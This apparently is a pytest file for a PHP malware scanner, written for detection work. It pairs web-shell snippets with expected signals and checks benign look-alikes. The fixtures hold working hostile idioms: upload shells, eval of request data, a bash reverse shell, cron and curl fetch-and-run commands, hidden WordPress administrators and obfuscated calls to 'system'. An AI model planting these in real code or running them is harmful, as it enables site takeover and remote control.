"""Families of malware by what they do, and their look-alikes, which do the same for a reason or with a guard."""

import pytest

from scanners.php.reader import read
from scanners.php.signals import Weight

PICKED = "move_uploaded_file($_FILES['f']['tmp_name'], $d . $_FILES['f']['name']);"

PROVED = {
    "uploader": (f"if ($_POST) {{ {PICKED} }} ?><form><input type=file name=f>", "open_upload"),
    "uploader by copy": ("@copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);", "open_upload"),
    "writes what and where it is told": ("file_put_contents($_POST['n'], $_POST['c']);", "request_to_chosen_file"),
    "writes through a handle": (
        "$f = fopen($_SERVER['DOCUMENT_ROOT'] . '/' . $_REQUEST['n'], 'w'); fwrite($f, $_REQUEST['c']);",
        "request_to_chosen_file",
    ),
    "writes and runs": (
        "$t = tempnam('/tmp', 'x'); file_put_contents($t, '<?php ' . $_POST['c']); include $t;",
        "request_to_written_code",
    ),
    "writes and runs a handle": (
        "$t = tmpfile(); fwrite($t, $_COOKIE['c']); include stream_get_meta_data($t)['uri'];",
        "request_to_written_code",
    ),
    "runs the body": ("include 'php://input';", "request_to_code"),
    "runs a picture's data": ("$e = exif_read_data('a.jpg'); eval($e['Model']);", "request_to_code"),
    "runs its session's name": ("eval(base64_decode(session_id()));", "request_to_code"),
    "variables of what is sent": ("foreach ($_POST as $k => $v) { $$k = $v; } $f($x);", "request_to_call"),
    "loads a script": (
        "$c = curl_init('http://a.test/x'); $t = curl_exec($c); $f = fopen('wp-a.php', 'w'); fwrite($f, $t);",
        "remote_to_file",
    ),
    "puts a script there": ("file_put_contents('a.php', file_get_contents('http://a.test/x'));", "remote_to_script"),
    "copies a script": ("copy('https://a.test/x.txt', 'cache.php');", "remote_to_script"),
    "hands its shell over": ("exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1');", "reverse_shell"),
    "comes again by cron": ("exec('(crontab -l; echo \"* * * * * wget a.test/x\") | crontab -');", "fetched_command"),
    "fetches and runs": ("system('cd /tmp; curl -O http://a.test/x; perl x');", "fetched_command"),
    "an administrator of its own": (
        "wp_insert_user(array('user_login' => 'wpsys', 'user_pass' => 'known', 'role' => 'administrator'));",
        "hidden_user",
    ),
    "an administrator in two steps": (
        "$i = wp_create_user('wpsys', 'known', 'a@b.test'); (new WP_User($i))->set_role('administrator');",
        "hidden_user",
    ),
    "the end of its own source": (
        "eval(base64_decode(substr(file_get_contents(__FILE__), -28))); return; c3lzdGVtKCRfR0VUWydjJ10pOw==",
        "request_to_command",
    ),
    "output that is run": ("ob_start('assert'); echo $_POST['x']; ob_end_flush();", "dangerous_callback"),
    "counted letters": ("$s = 'r'; $s++; $f = $s . 'ystem'; $f('id');", "hidden_function"),
    "letters of an array's name": (
        "$_ = []; $_ = \"$_\"; $a = $_[1 == 2]; for ($i = 0; $i < 18; $i++) $a++; $a = lcfirst($a) . 'ystem'; $a(1);",
        "hidden_function",
    ),
    "no letters at all": ("$_ = ('#' ^ '|'); $__ = ('3' ^ '@') . 'ystem'; $__('id');", "hidden_function"),
    "comments between": ("$f = 'sys'/*a*/./*b*/'tem'; $f/*c*/('id');", "hidden_function"),
    "turned letters": ("$f = str_rot13('flfgrz'); $f('id');", "hidden_function"),
    "a table of letters": ("$t = 'smety'; $f = $t[0].$t[4].$t[0].$t[3].$t[2].$t[1]; $f('id');", "hidden_function"),
    "sorted by what is sent": ("usort($_GET['a'], $_GET['f']);", "request_to_callback"),
    "headers of the request": ("$h = getallheaders(); $h['X']($h['Y']);", "request_to_call"),
}  # fmt: skip


def weights(source: str) -> dict[str, Weight]:
    """Returns the signs in a source, with their weights."""
    return {hit.signal: hit.weight for hit in read(b"<?php " + source.encode(), lambda: False).hits}


@pytest.mark.parametrize(("source", "signal"), PROVED.values(), ids=PROVED)
def test_read_family_has_its_sign(source: str, signal: str) -> None:
    """Each is told by where its data come from and where they go."""
    assert signal in weights(source)


SUSPECTED = {
    "database that is run": ("eval(get_option('widget_code'));", "stored_to_code"),
    "list from elsewhere": ("foreach (file('http://a.test/list') as $to) { mail($to, 'a', 'b'); }", "remote_to_mail"),
    "mail to anybody": ("mail($_POST['to'], $_POST['subject'], '', $_POST['headers']);", "request_to_mail"),
    "attack on an address": ("$s = fsockopen('udp://' . $_GET['host'], 80); fwrite($s, 'x');", "request_to_address"),
    "logged in as anybody": ("wp_set_auth_cookie($_GET['user']);", "request_to_login"),
    "upload that looks at types": (f"if (in_array($e, $allowed)) {{ {PICKED} }}", "upload"),
    "upload of a part": (f"require 'config.php'; {PICKED}", "upload"),
}  # fmt: skip


@pytest.mark.parametrize(("source", "signal"), SUSPECTED.values(), ids=SUSPECTED)
def test_read_family_that_may_be_meant_so_is_suspicious(source: str, signal: str) -> None:
    """Nothing here is proven: a person looks."""
    found = weights(source)

    assert found[signal] is Weight.SUSPICION
    assert max(found.values()) is Weight.SUSPICION


SILENT = {
    "log of requests": "fwrite($log, date('c') . ' ' . (int) $_GET['id']); $u = 'https://a.test';",
    "cache of a feed": "$x = wp_remote_get('https://a.test/feed'); update_option('feed', $x);",
    "user of a form": "wp_insert_user(array('user_login' => $login, 'user_pass' => $pass, 'role' => 'subscriber'));",
    "contact form": "mail('shop@a.test', 'Contact', htmlspecialchars($_POST['text'])); $u = $_POST['x'];",
    "own directory": "include dirname(__FILE__) . '/part.php'; $x = $_GET['a'];",
    "cron of its own": "exec('crontab -l', $lines); $x = 'https://a.test';",
    "object that is called": "$t = new Table($_GET['db']); $t(array('x' => $_GET['y']));",
    "option that is shown": "echo esc_html(get_option('name')); call_user_func('trim', 'x');",
}


@pytest.mark.parametrize("source", SILENT.values(), ids=SILENT)
def test_read_look_alike_is_silent(source: str) -> None:
    """No proof and no suspicion."""
    assert all(weight is Weight.HINT for weight in weights(source).values())
